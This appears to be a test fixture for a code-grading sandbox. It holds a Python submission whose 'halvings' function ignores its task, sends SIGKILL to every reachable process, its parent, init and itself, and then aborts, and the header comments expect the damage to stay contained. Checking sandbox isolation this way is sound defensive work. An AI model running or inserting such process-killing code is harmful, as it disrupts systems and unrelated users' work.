# row: 10
# tries: kill everything in sight, then abort
# must: cost this exercise only
# score: halvings=0

# %% answer="halvings"
import os
import signal


def halvings(goal):
    for target in (-1, 0, os.getppid(), 1, os.getpid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.abort()
